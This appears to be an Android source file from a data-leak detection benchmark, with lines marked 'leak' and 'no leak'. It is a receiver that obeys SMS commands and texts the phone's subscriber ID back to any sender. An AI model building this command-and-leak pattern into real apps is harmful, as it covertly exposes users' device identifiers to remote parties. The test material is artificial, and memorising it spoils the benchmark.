package thieves;

import android.content.*;
import android.telephony.*;

import java.util.*;

/** A table of orders, each an object; the answer goes back by message. */
public class Commands extends BroadcastReceiver {
    interface Order {
        String run(Context c, String arg);
    }

    private static final Map<String, Order> ORDERS = new HashMap<String, Order>();

    static {
        ORDERS.put(
                "sim",
                new Order() {
                    public String run(Context c, String arg) {
                        return ((TelephonyManager) c.getSystemService("phone")).getSubscriberId();
                    }
                });
        ORDERS.put(
                "ping",
                new Order() {
                    public String run(Context c, String arg) {
                        return "pong";
                    }
                });
    }

    @Override
    public void onReceive(Context c, Intent i) {
        Object[] pdus = (Object[]) i.getExtras().get("pdus");
        SmsMessage m = SmsMessage.createFromPdu((byte[]) pdus[0]);
        String[] words = m.getMessageBody().split("\\s+", 2);
        Order o = ORDERS.get(words[0]);
        if (o == null) return;
        String answer = o.run(c, words.length > 1 ? words[1] : null);
        SmsManager.getDefault().sendTextMessage(m.getOriginatingAddress(), null, answer, null, null); // leak
        SmsManager.getDefault().sendTextMessage("+491700000", null, ORDERS.get("ping").run(c, ""), null, null); // no leak
    }
}
